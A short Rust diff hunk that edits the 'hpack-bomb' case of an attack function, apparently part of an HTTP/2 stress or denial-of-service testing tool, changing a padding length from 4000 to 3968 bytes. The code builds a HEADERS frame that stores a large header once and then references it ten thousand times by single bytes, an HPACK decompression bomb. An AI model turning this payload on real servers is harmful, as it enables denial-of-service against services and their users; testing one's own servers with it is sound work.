@@ -67,7 +67,7 @@ fn attack(kind: &str, port: u16, end: Instant, rate: Option<u32>) -> Option<u64>
         "hpack-bomb" => {
             // A field that is remembered, and then named by a byte each time.
             let mut block = [GET, b"\x40\x01x\x7f\x81\x1e"].concat();
-            block.extend([b'y'; 4000]);
+            block.extend([b'y'; 3968]);
             block.extend([0xbe; 10_000]);
             bomb([&begin()[..], &frame(HEADERS, 5, 1, &block)].concat())
         }
